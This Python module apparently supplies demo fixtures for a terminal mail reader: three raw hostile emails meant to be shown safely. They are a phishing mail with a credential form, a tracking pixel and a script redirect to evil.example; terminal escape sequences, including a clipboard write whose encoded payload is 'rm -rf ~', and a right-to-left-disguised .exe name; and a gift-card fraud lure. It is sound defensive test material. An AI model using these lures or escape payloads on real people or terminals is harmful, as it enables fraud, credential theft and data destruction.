"""Mail that means harm: the reader shows each for what it is."""

from tui_mail.demo.letter import Letter

_PHISHING = b"""\
From: "service@bank.example" <x9@evil.example>
To: ann@corp.example
Reply-To: Account Team <collect@elsewhere.example>
Subject: Your account will be closed today
Date: Thu, 19 Nov 2026 07:44:00 +0100
Message-ID: <8812.x9@evil.example>
Authentication-Results: mx.corp.example; spf=fail smtp.mailfrom=evil.example;
 dkim=none; dmarc=fail header.from=evil.example
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="=_phish"

--=_phish
Content-Type: text/plain; charset=utf-8

Dear customer,

your account will be closed today. Confirm who you are within two hours:

https://www.bank.example.evil.example/login

--=_phish
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

<html><body><img src="https://evil.example/logo.png?who=ann" width="1" height="1">
<p>Dear customer,</p>
<p>your account will be <b>closed today</b>. Confirm who you are within two hours:</p>
<p><a href="https://evil.example/login?id=ann">https://www.bank.example/login</a></p>
<p>If you did not ask for this, <a href="http://192.0.2.66/stop">tell us here</a>.</p>
<p style="font-size:1px;color:#fff">invoice meeting lunch grandmother holiday</p>
<form action="https://evil.example/take"><input name="pin"></form>
<script>document.location = "https://evil.example/now"</script>
</body></html>

--=_phish--
"""

_ESCAPES = (
    b"""\
From: =?utf-8?q?Helpful_Terminal_=1B=5B31mTips=1B=5B0m?= <tips@evil.example>
To: ann@corp.example
Subject: =?utf-8?q?Free_colours_=1B=5D52;c;cm0gLXJmIH4K=07_=1B=5B2J_inside?=
Date: Tue, 17 Nov 2026 23:58:00 +0100
Message-ID: <colours@evil.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

This message tries to talk to your terminal instead of to you.

  clear the screen:      [\x1b[2J\x1b[H]
  set its title:         [\x1b]0;you have been had\x07]
  write your clipboard:  [\x1b]52;c;cm0gLXJmIH4K\x07]
  ask who it is:         [\x1b[c\x1b[>c]
  an eight-bit CSI:      [\xc2\x9b31m]
  hide the rest:         [\x1b[8m]

And a file name that reads backwards: invoice"""
    + "\u202efdp.exe".encode()
    + b"""

If all of this is here to be read, your reader is doing its work.
"""
)

_BEC = b"""\
From: Grace Hopper <grace.hopper.corp@freemail.example>
To: ann@corp.example
Reply-To: grace.hopper.corp@freemail.example
Subject: Are you at your desk?
Date: Wed, 18 Nov 2026 20:15:00 +0100
Message-ID: <desk@freemail.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Ann, I am in a meeting and can't talk. I need four gift cards today, keep it
between us. Send me the codes here.

Grace

Sent from my telephone
"""

LETTERS = (
    Letter(at="2026-11-19 07:44", sender="x9@evil.example", raw=_PHISHING),
    Letter(at="2026-11-17 23:58", sender="tips@evil.example", raw=_ESCAPES),
    Letter(
        at="2026-11-18 20:15",
        sender="grace.hopper.corp@freemail.example",
        raw=_BEC,
        flags="seen",
    ),
)
